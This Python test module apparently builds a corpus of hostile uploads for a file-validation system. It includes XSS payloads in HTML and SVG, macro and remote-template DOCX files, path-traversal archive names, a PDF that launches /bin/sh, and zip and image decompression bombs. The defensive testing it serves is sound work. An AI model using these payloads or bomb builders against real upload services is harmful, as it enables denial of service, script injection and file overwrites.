"""Files that somebody could send to do harm: (what it is, its name, its content)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from hotspots.evidence.kinds import KINDS

from .marked import chunk, with_segments
from .samples import movie, ogg, ogg_page, pdf, repacked, whole

Hostile = tuple[str, str, bytes]
HTML = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
CUTS = (0.02, 0.3, 0.5, 0.8, 0.95)
NAMES = (
    "jpg",
    "png",
    "webp",
    "heic",
    "pdf",
    "docx",
    "mp4",
    "ogg",
    "m4a",
    "mp3",
    "txt",
    "html",
    "svg",
    "exe",
    "",
)
# Cutting these leaves what is whole: a text is as long as it is, and a recording may stop in the middle.
STILL_WHOLE = ("text", "mp3")
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def truncated() -> Iterator[Hostile]:
    for kind in KINDS:
        if kind not in STILL_WHOLE:
            content = whole(kind)
            for cut in CUTS:
                yield f"{kind} cut at {cut}", f"a.{KINDS[kind].extension}", content[: int(len(content) * cut)]
            if not KINDS[kind].is_picture:
                yield f"{kind} without its end", f"a.{KINDS[kind].extension}", content[:-8]


def misnamed() -> Iterator[Hostile]:
    for kind, of_kind in KINDS.items():
        for extension in NAMES:
            is_movie = kind in ("mp4", "m4a") and extension in ("mp4", "m4a")
            if extension not in of_kind.extensions and not is_movie:
                yield f"{kind} called .{extension}", f"a.{extension}".rstrip("."), whole(kind)
    yield "video called .m4a", "a.m4a", whole("mp4")
    yield "two endings", "a.jpg.exe", whole("jpeg")
    yield "ending turned around", "a\u202egpj.exe", whole("jpeg")
    yield "ending behind a NUL", "a.exe\x00.png", whole("jpeg")


def other_kinds() -> Iterator[Hostile]:
    yield "SVG", "a.svg", SVG
    yield "SVG called .png", "a.png", SVG
    yield "HTML", "a.html", HTML
    yield "HTML called .jpg", "a.jpg", HTML
    yield "HTML called .pdf", "a.pdf", HTML
    yield "GIF", "a.gif", b"GIF89a\1\0\1\0\0\0\0;"
    yield "GIF called .jpg", "a.jpg", b"GIF89a\1\0\1\0\0\0\0;"
    yield "GIF called .txt", "a.txt", b"GIF89a\1\0\1\0\0\0\0;"
    yield "script of PostScript called .jpg", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
    yield "TIFF", "a.tif", b"II*\0\x08\0\0\0\0\0\0\0\0\0"
    yield "program", "a.exe", b"MZ" + bytes(100)
    yield "program called .txt", "a.txt", b"MZ" + bytes(100)
    yield "ELF called .mp3", "a.mp3", b"\x7fELF" + bytes(100)
    yield "nothing", "a.jpg", b""
    yield "one byte", "a.jpg", b"\xff"
    yield "zeros called .mp4", "a.mp4", bytes(1000)
    yield "QuickTime", "a.mov", movie(b"vide").replace(b"mp42", b"qt  ").replace(b"isom", b"qt  ")
    yield "AVIF called .heic", "a.heic", whole("heic").replace(b"heic", b"avif").replace(b"heix", b"avif")
    yield "text in UTF-16", "a.txt", "Témoignage".encode("utf-16")
    yield "text in Latin-1", "a.txt", "Témoignage".encode("latin-1")
    yield "text with a bell", "a.txt", b"ding \x07"
    yield "text with NUL", "a.txt", b"a\0b"
    yield "Ogg with video", "a.ogg", ogg(b"\x80theora")
    yield "Ogg with a second stream of video", "a.ogg", whole("ogg") + ogg_page(b"\x80theora", 2)
    yield "MP3 of one frame", "a.mp3", b"\xff\xfb\x90\x64" + bytes(413)
    yield "MP3 tag that goes on for ever", "a.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(100)
    yield (
        "Excel sheet called .docx",
        "a.docx",
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}),
    )
    yield "ZIP", "a.zip", _zip({"a.txt": b"x"})
    yield "JAR called .docx", "a.docx", _zip({"META-INF/MANIFEST.MF": b"Main-Class: X"})


def polyglots() -> Iterator[Hostile]:
    """Two kinds at once, other than pictures: of those the copy is what people see."""
    archive = _zip({"a.txt": b"x"})
    yield "PDF and ZIP", "a.pdf", whole("pdf") + archive
    yield "PDF and HTML", "a.pdf", whole("pdf") + HTML
    yield "HTML and PDF", "a.pdf", HTML + whole("pdf")
    yield "DOCX and more behind it", "a.docx", whole("docx") + HTML
    yield "DOCX and more before it", "a.docx", b"PK\3\4" + bytes(40) + whole("docx")
    yield "program and DOCX", "a.docx", b"MZ" + bytes(100) + whole("docx")
    yield "MP4 and ZIP", "a.mp4", whole("mp4") + archive
    yield "OGG and HTML", "a.ogg", whole("ogg") + HTML
    yield "MP3 and ZIP", "a.mp3", whole("mp3") + archive
    yield "JPEG that is a PDF", "a.jpg", whole("pdf")
    yield "PDF that is a JPEG", "a.pdf", with_segments(whole("jpeg"), (0xFE, whole("pdf")))


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def _related(target: str, kind: str = "attachedTemplate", mode: str = "External") -> bytes:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="http://x/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def documents() -> Iterator[Hostile]:
    word = whole("docx")
    types = zipfile.ZipFile(io.BytesIO(word)).read("[Content_Types].xml")
    yield "macros", "a.docx", repacked(word, {"word/vbaProject.bin": b"x"})
    yield "macros by name", "a.docm", word
    yield (
        "macros by type",
        "a.docx",
        repacked(
            word, {"[Content_Types].xml": types.replace(b"document.main", b"document.macroEnabled.main")}
        ),
    )
    yield "ActiveX", "a.docx", repacked(word, {"word/activeX/activeX1.bin": b"x"})
    for target in (
        "http://tracker.example/x.dotm",
        "https://x/",
        r"\\host\x.dotm",
        "file://host/x.dotm",
        "//host/x",
    ):
        yield (
            f"template from {target}",
            "a.docx",
            repacked(word, {"word/_rels/settings.xml.rels": _related(target)}),
        )
    yield (
        "picture from elsewhere",
        "a.docx",
        repacked(
            word, {"word/_rels/header1.xml.rels": _related("http://tracker.example/pixel.png", "image")}
        ),
    )
    yield (
        "entities",
        "a.docx",
        repacked(
            word, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}
        ),
    )
    yield "no document", "a.docx", repacked(word, {"word/document.xml": None})
    yield "document that is not XML", "a.docx", repacked(word, {"word/document.xml": b"<a><b></a>"})
    yield "way out", "a.docx", repacked(word, {"../../evil.sh": b"x"})
    yield "absolute way out", "a.docx", repacked(word, {"/etc/cron.d/evil": b"x"})
    yield "way out of Windows", "a.docx", repacked(word, {"C:\\evil.bat": b"x"})
    yield "name that is there twice", "a.docx", _with_twin(word)
    yield "broken part", "a.docx", _with_wrong_byte(word)
    yield "locked", "a.docx", _locked(word)
    yield "PDF that runs a script", "a.pdf", pdf(_script)
    yield "PDF that starts a program", "a.pdf", pdf(_launch)
    yield "PDF with a password", "a.pdf", pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
    yield "PDF without pages", "a.pdf", _empty_pdf()
    yield "PDF that goes round in circles", "a.pdf", _circular_pdf()


def _script(writer: PdfWriter) -> None:
    act = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(act)


def _launch(writer: PdfWriter) -> None:
    act = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("/bin/sh")}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(act)


def _empty_pdf() -> bytes:
    written = io.BytesIO()
    PdfWriter().write(written)
    return written.getvalue()


def _circular_pdf() -> bytes:
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 9/Kids[2 0 R]>>endobj\n"
    table = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (9, body.index(b"2 0 obj"))
    return body + table + b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _with_twin(word: bytes) -> bytes:
    twin = repacked(word, {"word/documenX.xml": b"<a/>"})
    return twin.replace(b"word/documenX.xml", b"word/document.xml")


def _with_wrong_byte(word: bytes) -> bytes:
    stored = _zip({**_parts(word), "word/media/a.bin": b"A" * 500}, zipfile.ZIP_STORED)
    return stored.replace(b"AAAA", b"AAAB", 1)


def _parts(word: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(word)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _locked(word: bytes) -> bytes:
    at = word.index(b"PK\1\2") + 8
    return word[:at] + b"\1\0" + word[at + 2 :]


def packed_zeros(size: int, wbits: int = 15) -> bytes:
    """That many zeros, packed, without ever holding them."""
    packing = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return (
        b"".join(packing.compress(bytes(min(1 << 20, size - at))) for at in range(0, size, 1 << 20))
        + packing.flush()
    )


# What it is: its name, and how it is made.
BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "DOCX of 200 MB": ("a.docx", lambda: _with_zeros(200_000_000, 200_000_000)),
    "DOCX that says it has 4 GB": ("a.docx", lambda: _with_zeros(2_000_000, 0xFFFFFFF0)),
    "DOCX that says it is small": ("a.docx", lambda: _with_zeros(200_000_000, 100_000)),
    "DOCX of very many parts": ("a.docx", lambda: _many_parts(6000)),
    "DOCX that says it has few parts": ("a.docx", lambda: _many_parts(1)),
    "DOCX whose parts share bytes": ("a.docx", lambda: _overlapping()),
    "PNG of 3,600 million pixels": ("a.png", lambda: _png(60_000, 60_000, b"")),
    "PNG of 49 million pixels": ("a.png", lambda: _png(7000, 7000, packed_zeros(7001 * 7000))),
    "PNG whose text unpacks to 100 MB": ("a.png", lambda: _bomb_in_chunk(b"zTXt", b"Comment\0\0")),
    "JPEG of 4,290 million pixels": ("a.jpg", lambda: _jpeg(65_500, 65_500)),
    "WebP of 268 million pixels": ("a.webp", lambda: _webp(16_383, 16_383)),
    "HEIC of 4,000 million pixels": ("a.heic", lambda: _heic(65_000, 65_000)),
    "PDF that unpacks to 300 MB": ("a.pdf", lambda: _packed_pdf()),
    "MP4 of boxes in boxes": ("a.mp4", lambda: _nested_boxes()),
    "MP4 of very many boxes": ("a.mp4", lambda: whole("mp4") + (struct.pack(">I", 8) + b"free") * 20_000),
    "MP4 with a box larger than itself": (
        "a.mp4",
        lambda: whole("mp4") + struct.pack(">I4sQ", 1, b"free", 1 << 62),
    ),
}


def _with_zeros(size: int, told: int) -> bytes:
    """A DOCX with one more part of zeros, of which its directory tells another size."""
    zeros = packed_zeros(size, -15)
    word = repacked(whole("docx"), {"word/zeros.bin": zeros})
    with zipfile.ZipFile(io.BytesIO(word)) as archive:
        stored = archive.getinfo("word/zeros.bin")
    # Stored as a part of its own: what was packed once more is put back as packed once.
    parts = _parts(whole("docx"))
    name = b"word/zeros.bin"
    head = _zip(parts)
    at = head.index(b"PK\1\2")
    facts = (20, 0, 8, 0, 0, stored.CRC, len(zeros), told, len(name), 0)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", *facts) + name + zeros
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, *facts, 0, 0, 0, 0, at) + name
    directory = head[at : head.rindex(b"PK\5\6")] + entry
    count = len(parts) + 1
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), at + len(local), 0)
    return head[:at] + local + directory + end


def _many_parts(told: int) -> bytes:
    many = repacked(whole("docx"), {f"word/{number}": b"" for number in range(6000)})
    at = many.rindex(b"PK\5\6")
    return many[: at + 8] + struct.pack("<2H", told, told) + many[at + 12 :]


def _packed_pdf() -> bytes:
    """A PDF whose catalogue lies in a stream that unpacks to 300 MB."""
    zeros = packed_zeros(300_000_000)
    body = (
        b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(zeros)).encode()
    )
    body += b">>stream\n" + zeros + b"\nendstream endobj\n"
    rows = b"".join(struct.pack(">BHB", *row) for row in ((0, 0, 0), (1, 9, 0), (2, 1, 0)))
    table = b"3 0 obj<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Length %d>>stream\n%b\nendstream endobj\n" % (
        len(rows),
        rows,
    )
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _overlapping() -> bytes:
    """All parts are the same bytes, as in the bombs that need no nesting."""
    names = ["[Content_Types].xml", "word/document.xml", *(f"word/{n}.xml" for n in range(50))]
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"<a/>" * 200) + body.flush()
    facts = (20, 0, 8, 0, 0, zlib.crc32(b"<a/>" * 200), len(packed), 800)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", *facts, len(names[0]), 0) + names[0].encode() + packed
    directory = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, *facts, len(name), 0, 0, 0, 0, 0, 0) + name.encode()
        for name in names
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(names), len(names), len(directory), len(local), 0)
    return local + directory + end


def _png(width: int, height: int, pixels: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _bomb_in_chunk(name: bytes, head: bytes) -> bytes:
    plain = whole("png")
    return plain[:33] + chunk(name, head + packed_zeros(100_000_000)) + plain[33:]


def _jpeg(width: int, height: int) -> bytes:
    plain = whole("jpeg")
    at = plain.index(b"\xff\xc0") + 5
    return plain[:at] + struct.pack(">HH", height, width) + plain[at + 4 :]


def _webp(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size + whole("webp")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _heic(width: int, height: int) -> bytes:
    plain = whole("heic")
    at = plain.index(b"ispe") + 8
    return plain[:at] + struct.pack(">II", width, height) + plain[at + 8 :]


def _nested_boxes() -> bytes:
    inner = b""
    for _level in range(5000):
        inner = struct.pack(">I4s", 8 + len(inner), b"moov") + inner
    return movie(b"vide")[:24] + inner


def everything() -> list[Hostile]:
    """The corpus without what is made to burst."""
    return [one for part in (truncated, misnamed, other_kinds, polyglots, documents) for one in part()]
